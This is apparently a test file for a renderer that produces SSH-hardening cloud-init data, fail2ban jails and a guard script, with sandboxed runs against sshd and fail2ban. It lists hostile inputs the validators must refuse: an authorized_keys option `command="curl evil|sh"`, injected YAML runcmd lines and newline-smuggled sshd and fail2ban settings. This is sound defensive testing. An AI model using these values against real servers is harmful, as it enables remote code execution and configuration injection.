// cloud-init user data in both SSH modes under the real `cloud-init schema`, strict validation and
// quoting of every value that reaches YAML, sshd_config or the fail2ban jail (hostile inputs), and the
// guard script that re-applies the hardening on running servers: shellcheck, and a run against the
// real `sshd -t` and `fail2ban-client -t` with systemctl and apt-get stubbed.
import * as assert from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as yaml from "js-yaml";
import * as os from "os";
import * as path from "path";
import {
    FAIL2BAN_JAIL_PATH,
    LEGACY_SSHD_DROPIN_PATH,
    SSHD_DROPIN_PATH,
    renderCloudInit,
    renderFail2banJail,
    renderSshGuardScript,
    renderSshdHardening,
} from "../render/cloudInit";
import { PUBLIC_KEY, REAL_KEYS } from "./fixtures";
import { requireBinary } from "./support/edge";
import { SSHD, writeSshdConfig } from "./support/sshd";

interface UserData {
    packages: string[];
    users: { name: string; ssh_authorized_keys: string[] }[];
    write_files: { path: string; content: string; permissions: string }[];
    runcmd: (string | string[])[];
}

const MODES = [
    { label: "SSH from adminCidrs only", args: { sshPublicKey: PUBLIC_KEY, adminCidrs: ["203.0.113.10/32"] } },
    { label: "SSH from anywhere, no adminCidrs", args: { sshPublicKey: PUBLIC_KEY, sshFromAnywhere: true, adminCidrs: [] } },
    { label: "SSH from anywhere with adminCidrs (IPv4 and IPv6)", args: { sshPublicKey: PUBLIC_KEY, sshFromAnywhere: true, adminCidrs: ["203.0.113.10/32", "2001:db8::/48"] } },
];

function tempFile(name: string, content: string): string {
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "platform-ci-")), name);
    fs.writeFileSync(file, content);
    return file;
}

describe("cloud-init user data and SSH hardening (render)", () => {
    for (const mode of MODES) {
        it(`${mode.label}: passes \`cloud-init schema\``, function () {
            requireBinary(this, "cloud-init");
            const file = tempFile("user-data", renderCloudInit(mode.args));
            const r = spawnSync("cloud-init", ["schema", "-c", file], { encoding: "utf8" });
            assert.strictEqual(r.status, 0, `${r.stdout}\n${r.stderr}`);
            assert.match(r.stdout + r.stderr, /Valid cloud-config/);
        });
    }

    it("the existing one-argument call still renders the hardened, key-only user data", () => {
        const data = yaml.load(renderCloudInit({ sshPublicKey: PUBLIC_KEY })) as UserData;
        assert.strictEqual(data.write_files.find((f) => f.path === SSHD_DROPIN_PATH)?.content, renderSshdHardening());
        assert.ok(!data.packages.includes("fail2ban"));
    });

    it("fail2ban (and its journal reader) only when SSH is open to all; admin CIDRs are never banned", () => {
        const limited = yaml.load(renderCloudInit(MODES[0].args)) as UserData;
        assert.ok(!limited.packages.includes("fail2ban"));
        assert.ok(!limited.write_files.some((f) => f.path === FAIL2BAN_JAIL_PATH));
        assert.ok(!JSON.stringify(limited.runcmd).includes("fail2ban"));
        const open = yaml.load(renderCloudInit(MODES[2].args)) as UserData;
        assert.ok(open.packages.includes("fail2ban") && open.packages.includes("python3-systemd"));
        const jail = open.write_files.find((f) => f.path === FAIL2BAN_JAIL_PATH)!;
        assert.strictEqual(jail.permissions, "0644");
        assert.match(jail.content, /^ignoreip = 127\.0\.0\.1\/8 ::1 203\.0\.113\.10\/32 2001:db8::\/48$/m);
        assert.match(jail.content, /^backend = systemd$/m);
        assert.deepStrictEqual(open.runcmd.filter((c) => JSON.stringify(c).includes("fail2ban")), [["systemctl", "enable", "fail2ban"], ["systemctl", "restart", "fail2ban"]]);
    });

    it("the drop-in sorts before cloud-init's 50-cloud-init.conf (first value wins) and replaces the old 10-platform.conf", () => {
        const dropins = [path.basename(SSHD_DROPIN_PATH), "50-cloud-init.conf", "60-cloudimg-settings.conf", path.basename(LEGACY_SSHD_DROPIN_PATH)];
        assert.strictEqual([...dropins].sort()[0], path.basename(SSHD_DROPIN_PATH));
        assert.match(renderSshGuardScript(), /rm -f "\$legacy"/);
    });

    it("the public key reaches YAML as one quoted scalar, whatever key type it is", () => {
        for (const key of REAL_KEYS) {
            const text = renderCloudInit({ sshPublicKey: `  ${key.replace(" ", "   ")}  ` });
            const data = yaml.load(text) as UserData;
            assert.deepStrictEqual(data.users[0].ssh_authorized_keys, [key]);
            assert.ok(text.includes(`      - ${JSON.stringify(key)}\n`));
        }
    });

    const blob = PUBLIC_KEY.split(" ")[1];
    const hostileKeys: [string, string][] = [
        ["a second key after a newline", `${PUBLIC_KEY}\nssh-ed25519 ${blob} attacker`],
        ["YAML after a newline", `ssh-ed25519 ${blob}\nruncmd: [reboot]`],
        ["a carriage return", `ssh-ed25519 ${blob}\rruncmd`],
        ["a double quote", `ssh-ed25519 ${blob} "x`],
        ["authorized_keys options in front", `command="curl evil|sh" ssh-ed25519 ${blob}`],
        ["a YAML comment in the comment", `ssh-ed25519 ${blob} #x`],
        ["a truncated key", `ssh-ed25519 ${blob.slice(0, 40)}`],
        ["no key at all", ""],
        ["a NUL byte", `ssh-ed25519 ${blob} a\u0000b`],
        ["a tab-separated second key", `ssh-ed25519 ${blob}\tssh-ed25519 ${blob}`],
    ];
    for (const [label, key] of hostileKeys) {
        it(`refuses a public key with ${label}`, () => {
            assert.throws(() => renderCloudInit({ sshPublicKey: key }), /sshPublicKey/);
        });
    }

    const hostileCidrs = [
        "203.0.113.7/32\nenabled = false",
        "203.0.113.7/32 0.0.0.0/0",
        "203.0.113.7",
        "203.0.113.7/33",
        "2001:db8::/129",
        "example.com/32",
        "203.0.113.7/32#",
        "",
    ];
    for (const cidr of hostileCidrs) {
        it(`refuses admin CIDR ${JSON.stringify(cidr)} before it reaches the fail2ban jail`, () => {
            assert.throws(() => renderFail2banJail({ adminCidrs: [cidr] }), /not a CIDR/);
            assert.throws(() => renderCloudInit({ sshPublicKey: PUBLIC_KEY, sshFromAnywhere: true, adminCidrs: [cidr] }), /not a CIDR/);
        });
    }

    const hostileTargets = ["127.0.0.1:5432 any", "127.0.0.1:5432\nPermitOpen any", "any", "localhost:5432", "127.0.0.1:0", "127.0.0.1:65536", "::1:5432", "[127.0.0.1]:5432", "127.0.0.1:5432#"];
    for (const target of hostileTargets) {
        it(`refuses PermitOpen target ${JSON.stringify(target)}`, () => {
            assert.throws(() => renderSshdHardening({ permitOpen: [target] }), /permitOpen/);
        });
    }
    it("accepts IP:port and [IPv6]:port targets, and refuses none at all", () => {
        assert.match(renderSshdHardening({ permitOpen: ["127.0.0.1:5432", "[::1]:5432"] }), /^PermitOpen 127\.0\.0\.1:5432 \[::1\]:5432$/m);
        assert.throws(() => renderSshdHardening({ permitOpen: [] }));
    });
});

describe("ssh guard script (re-applies the hardening on running servers)", function () {
    this.timeout(60000);
    for (const [label, args] of [
        ["adminCidrs only", {}],
        ["from anywhere", { sshFromAnywhere: true, adminCidrs: ["203.0.113.10/32"] }],
    ] as const) {
        it(`${label}: passes shellcheck`, function () {
            requireBinary(this, "shellcheck");
            const r = spawnSync("shellcheck", ["-s", "sh", tempFile("guard.sh", renderSshGuardScript(args))], { encoding: "utf8" });
            assert.strictEqual(r.status, 0, r.stdout);
        });
    }

    /**
     * The script with /etc paths moved into a sandbox, the real `sshd -t` (against a main config that
     * includes the sandbox's drop-in directory) and the real `fail2ban-client -t` (against a copy of
     * /etc/fail2ban); systemctl and apt-get are stubs that log their arguments.
     */
    function sandbox() {
        const root = fs.mkdtempSync(path.join(os.tmpdir(), "platform-guard-"));
        const etc = path.join(root, "etc");
        fs.mkdirSync(path.join(etc, "ssh"), { recursive: true });
        fs.cpSync("/etc/fail2ban", path.join(etc, "fail2ban"), { recursive: true });
        const { configFile } = writeSshdConfig({ dir: path.join(etc, "ssh"), name: ".", dropins: [], authorizedKeys: "", port: 2222 });
        const bin = path.join(root, "bin");
        fs.mkdirSync(bin);
        const calls = path.join(root, "calls.log");
        const stub = (name: string, body: string) => fs.writeFileSync(path.join(bin, name), `#!/bin/sh\necho "${name} $*" >> '${calls}'\n${body}\n`, { mode: 0o755 });
        stub("sshd", `exec ${SSHD} -f '${configFile}' "$@"`);
        stub("systemctl", "exit 0");
        stub("apt-get", "exit 0");
        stub("fail2ban-client", `exec /usr/bin/fail2ban-client -c '${path.join(etc, "fail2ban")}' "$@"`);
        const run = (script: string) => {
            const sandboxed = script.split("/etc/").join(`${etc}/`);
            fs.writeFileSync(calls, "");
            const r = spawnSync("sh", ["-c", sandboxed], { encoding: "utf8", env: { ...process.env, PATH: `${bin}:${process.env.PATH}` } });
            return { ...r, calls: fs.readFileSync(calls, "utf8") };
        };
        const file = (p: string) => path.join(etc, p.replace(/^\/etc\//, ""));
        return { root, run, file };
    }

    it("installs the drop-in, checks it with sshd -t, reloads sshd, and does nothing on a rerun", function () {
        if (!fs.existsSync(SSHD)) requireBinary(this, "sshd");
        const box = sandbox();
        try {
            fs.writeFileSync(box.file(LEGACY_SSHD_DROPIN_PATH), "AllowTcpForwarding local\n");
            const first = box.run(renderSshGuardScript());
            assert.strictEqual(first.status, 0, first.stderr);
            assert.strictEqual(fs.readFileSync(box.file(SSHD_DROPIN_PATH), "utf8"), renderSshdHardening());
            assert.strictEqual(fs.statSync(box.file(SSHD_DROPIN_PATH)).mode & 0o777, 0o644);
            assert.ok(!fs.existsSync(box.file(LEGACY_SSHD_DROPIN_PATH)), "the old drop-in is gone");
            assert.match(first.calls, /^sshd -t$/m);
            assert.match(first.calls, /^systemctl try-reload-or-restart ssh$/m);
            assert.deepStrictEqual(fs.readdirSync(path.dirname(box.file(SSHD_DROPIN_PATH))), [path.basename(SSHD_DROPIN_PATH)], "no temp file left");
            const again = box.run(renderSshGuardScript());
            assert.strictEqual(again.status, 0, again.stderr);
            assert.strictEqual(again.calls, "", "unchanged settings: no check, no reload");
        } finally {
            fs.rmSync(box.root, { recursive: true, force: true });
        }
    });

    it("when sshd rejects the result, puts the previous drop-in back, does not reload, and fails", function () {
        if (!fs.existsSync(SSHD)) requireBinary(this, "sshd");
        const box = sandbox();
        try {
            fs.writeFileSync(box.file(SSHD_DROPIN_PATH), "PasswordAuthentication no\n");
            // A keyword this sshd does not know stands in for any drop-in sshd refuses.
            const broken = renderSshGuardScript().replace("PermitUserRC no\n", "PermitUserRC no\nNoSuchKeyword yes\n");
            const r = box.run(broken);
            assert.notStrictEqual(r.status, 0);
            assert.match(r.stderr, /sshd rejected the new settings/);
            assert.strictEqual(fs.readFileSync(box.file(SSHD_DROPIN_PATH), "utf8"), "PasswordAuthentication no\n");
            assert.doesNotMatch(r.calls, /systemctl/);
        } finally {
            fs.rmSync(box.root, { recursive: true, force: true });
        }
    });

    it("from anywhere: installs the jail after fail2ban-client -t accepts it and restarts fail2ban; back to adminCidrs: removes it", function () {
        if (!fs.existsSync(SSHD)) requireBinary(this, "sshd");
        requireBinary(this, "fail2ban-client");
        const box = sandbox();
        try {
            const args = { sshFromAnywhere: true, adminCidrs: ["203.0.113.10/32"] };
            const on = box.run(renderSshGuardScript(args));
            assert.strictEqual(on.status, 0, on.stderr);
            assert.strictEqual(fs.readFileSync(box.file(FAIL2BAN_JAIL_PATH), "utf8"), renderFail2banJail(args));
            assert.match(on.calls, /^fail2ban-client -t$/m);
            assert.match(on.calls, /^systemctl restart fail2ban$/m);
            assert.doesNotMatch(on.calls, /apt-get/, "fail2ban is installed here: nothing to install");
            const off = box.run(renderSshGuardScript({}));
            assert.strictEqual(off.status, 0, off.stderr);
            assert.ok(!fs.existsSync(box.file(FAIL2BAN_JAIL_PATH)));
            assert.match(off.calls, /^systemctl disable --now fail2ban$/m);
        } finally {
            fs.rmSync(box.root, { recursive: true, force: true });
        }
    });

    it("a jail fail2ban rejects is removed again and the script fails", function () {
        if (!fs.existsSync(SSHD)) requireBinary(this, "sshd");
        requireBinary(this, "fail2ban-client");
        const box = sandbox();
        try {
            const r = box.run(renderSshGuardScript({ sshFromAnywhere: true }).replace("backend = systemd", "backend = nonsense"));
            assert.notStrictEqual(r.status, 0);
            assert.match(r.stderr, /fail2ban rejected the jail/);
            assert.ok(!fs.existsSync(box.file(FAIL2BAN_JAIL_PATH)));
            assert.doesNotMatch(r.calls, /systemctl restart fail2ban/);
        } finally {
            fs.rmSync(box.root, { recursive: true, force: true });
        }
    });
});
